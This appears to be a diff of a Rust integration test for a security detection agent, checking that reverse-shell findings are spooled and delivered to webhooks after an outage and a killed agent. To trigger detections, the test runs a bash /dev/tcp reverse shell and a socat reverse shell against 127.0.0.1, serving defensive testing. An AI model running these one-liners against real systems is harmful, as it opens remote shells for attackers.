@@ -18,12 +18,27 @@ use std::{
 
 use agent::{belongs_to_runner, metric, run_attack, Agent, AgentSpec};
 use common::{marker, privileged, spooled_files};
-use http::{finding_id, free_port, Server};
+use http::{delivery_key, free_port, Server};
 use serde_json::Value;
 
 const RCE: &str = "Execution: Possible Remote Command Execution Detected";
 const REVERSE_SHELL: &str = "Reverse Shell";
 const SOCAT: &str = "Execution: Socat Reverse Shell Detected";
+
+/// Lines the agent has written once no update has followed for longer than the incident
+/// settle time (1.5 s): updates of its findings are out.
+fn written_when_settled(agent: &Agent) -> usize {
+    let deadline = Instant::now() + Duration::from_secs(20);
+    let mut n = agent.written().len();
+    loop {
+        std::thread::sleep(Duration::from_millis(2500));
+        let now = agent.written().len();
+        if now == n || Instant::now() > deadline {
+            return now;
+        }
+        n = now;
+    }
+}
 
 fn wait(what: &str, timeout: Duration, mut cond: impl FnMut() -> bool, state: impl Fn() -> String) {
     let deadline = Instant::now() + timeout;
@@ -77,7 +92,16 @@ fn webhook_outage_and_killed_agent_lose_no_finding() {
     let a = agent::start(&dir, &spec);
     let runner1 = run_attack("bash", "bash -c 'exec bash -i >& /dev/tcp/127.0.0.1/{P} 0>&1'", "id; exit\n");
     wait_caught(&a, "the first attack's findings", runner1, &[REVERSE_SHELL, RCE]);
-    let n1 = a.findings().len();
+    // Every line written is delivered, updates of a finding included.
+    let n1 = written_when_settled(&a);
+    // The first findings went out at once, not after the incident's settle time.
+    let latency = |text: &str| {
+        (metric(text, "shrike_finding_latency_seconds_count"), metric(text, "shrike_finding_latency_seconds_bucket{le=\"0.5\"}"))
+    };
+    wait("the finding latency in the metrics", Duration::from_secs(5), || latency(&agent::http_get(&a.metrics, "/metrics")).0 >= 2.0, || agent::http_get(&a.metrics, "/metrics"));
+    let text = agent::http_get(&a.metrics, "/metrics");
+    let (timed, fast) = latency(&text);
+    assert_eq!(fast, timed, "every first finding within 0.5 s of its event: {text}");
     wait(
         "the findings in the spools",
         Duration::from_secs(10),
@@ -96,8 +120,10 @@ fn webhook_outage_and_killed_agent_lose_no_finding() {
     assert!(metric(&text, "shrike_sink_spool_bytes{sink=\"siem\"}") > 0.0, "{text}");
 
     // 2. The agent is killed: no flush, no shutdown. What it accepted is on disk.
+    let written_a = a.written_handle();
     let (found_a, _) = a.kill();
-    assert_eq!(found_a.len(), n1, "nothing more was written after the spool filled");
+    let written_a = written_a.lock().unwrap().clone();
+    assert_eq!(written_a.len(), n1, "nothing more was written after the spool filled");
     assert_eq!(spooled_files(&spool).len(), n1, "the spool outlives the killed agent");
 
     // 3. Started again (the receiver still down): the spool is picked up, a second attack adds
@@ -111,7 +137,7 @@ fn webhook_outage_and_killed_agent_lose_no_finding() {
     );
     let runner2 = run_attack("socat", "socat TCP:127.0.0.1:{P} EXEC:/bin/sh", "id; exit\n");
     wait_caught(&b, "the second attack's findings", runner2, &[SOCAT, REVERSE_SHELL, RCE]);
-    let n2 = b.findings().len();
+    let n2 = written_when_settled(&b);
     wait(
         "every finding in the spools",
         Duration::from_secs(10),
@@ -122,11 +148,11 @@ fn webhook_outage_and_killed_agent_lose_no_finding() {
     // 4. The receiver comes back: every finding arrives and the spool empties.
     let server = Server::ok(port);
     let mut raised: BTreeMap<String, Value> = BTreeMap::new();
-    for f in found_a.iter().chain(b.findings().iter()) {
-        assert!(raised.insert(finding_id(f), f.clone()).is_none(), "two findings with one id: {f}");
+    for f in written_a.iter().chain(b.written().iter()) {
+        assert!(raised.insert(delivery_key(f), f.clone()).is_none(), "two findings with one delivery key: {f}");
     }
     let ids_at = |target: &str| -> BTreeSet<String> {
-        server.requests().iter().filter(|r| r.target == target).map(|r| finding_id(&r.json())).collect()
+        server.requests().iter().filter(|r| r.target == target).map(|r| delivery_key(&r.json())).collect()
     };
     wait(
         "delivery of everything to both webhooks",
@@ -145,7 +171,7 @@ fn webhook_outage_and_killed_agent_lose_no_finding() {
             t => panic!("request to {t}"),
         }
         let body = r.json();
-        let id = finding_id(&body);
+        let id = delivery_key(&body);
         assert_eq!(r.header("idempotency-key"), Some(id.as_str()));
         // A repeat is allowed (at least once), and then it is the same finding.
         assert_eq!(body, raised[&id], "the body the agent wrote");
